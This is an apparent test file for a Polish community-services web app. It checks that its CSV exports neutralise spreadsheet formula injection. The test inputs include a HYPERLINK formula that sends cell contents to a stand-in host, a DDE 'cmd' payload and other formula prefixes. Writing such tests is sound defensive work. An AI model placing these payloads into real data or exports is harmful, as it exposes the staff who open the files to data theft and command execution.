// Formula injection through the CSV exports: text that residents (an organisation's name, a
// person's name) or staff (a room's name, a rejection reason) typed must not run as a formula in
// the spreadsheet of the officer who opens the export — in English Excel (comma) or in Polish
// Excel, which splits on ";".
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { eq } from 'drizzle-orm';
import { spacePackages, spaceResources } from '../../src/modules/spaces/schema.ts';
import { loadDemoData } from '../../src/seed/demo.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { formulaCells, readCsv } from '../support/csv.ts';

const EVIL_ORG = 'Fundacja;=HYPERLINK("https://zly.example/?d="&A1;"Pobierz")';
const EVIL_REASON = "Brak danych, -2+3+cmd|' /C calc'!A0";
const EVIL_ROOM = 'Sala; @SUM(1+1)*cmd';
const EVIL_PACKAGE = 'Karnet,+1+1';

describe('CSV exports neutralise formulas in either separator convention', () => {
  let t: TestApp;
  let staff: Awaited<ReturnType<TestApp['signedIn']>>;
  before(async () => {
    t = await createTestApp();
    await loadDemoData(t.app.klaster);
    staff = await t.signedIn('staff');
  });
  after(async () => t.close());

  it('the audit log CSV: an organisation a resident named with a formula, rejected by staff', async () => {
    const resident = await t.signedIn('resident', { name: 'Anna;-1+1' });
    const created = await resident.post('/organizacje/nowa', {
      name: EVIL_ORG,
      kind: 'informal_group',
      nip: '',
      regon: '',
      krs: '',
      description: 'Grupa sąsiedzka.',
      website: '',
      publicEmail: '',
      subarea: '',
    });
    assert.equal(created.statusCode, 303, created.body);
    const id = /\/organizacje\/([0-9a-f-]{36})/.exec(String(created.headers.location))![1]!;
    const rejected = await staff.post(`/panel/organizacje/${id}/odrzuc`, { reason: EVIL_REASON });
    assert.equal(rejected.statusCode, 303, rejected.body);

    const csv = await staff.get('/panel/audyt.csv?typ=organisation');
    assert.equal(csv.statusCode, 200);
    assert.ok(csv.body.includes('Fundacja;'), 'the entry is in the export');
    assert.deepEqual(formulaCells(csv.body), []);
    // Read as RFC 4180 says, the JSON of the entry is still one cell holding the name.
    const cells = readCsv(csv.body, ',').flat();
    assert.ok(cells.some((c) => c.includes("Fundacja;'=HYPERLINK(")));
  });

  it('the spaces report CSVs: a room and a package staff named with formulas', async () => {
    const db = t.database.db;
    await db
      .update(spaceResources)
      .set({ name: EVIL_ROOM })
      .where(eq(spaceResources.slug, 'pomieszczenie-b2b'));
    await db.update(spacePackages).set({ name: EVIL_PACKAGE });
    for (const url of [
      '/panel/umowy/raport/sale.csv?od=2025-03-01&do=2025-03-31',
      '/panel/umowy/raport/aktywne.csv',
      '/panel/umowy/raport/zawarte.csv?od=2025-01-01&do=2025-12-31',
    ]) {
      const csv = await staff.get(url);
      assert.equal(csv.statusCode, 200, url);
      assert.ok(
        csv.body.includes('Sala;') || csv.body.includes('Karnet,'),
        `${url} names the renamed things`,
      );
      assert.deepEqual(formulaCells(csv.body), [], url);
    }
  });
});
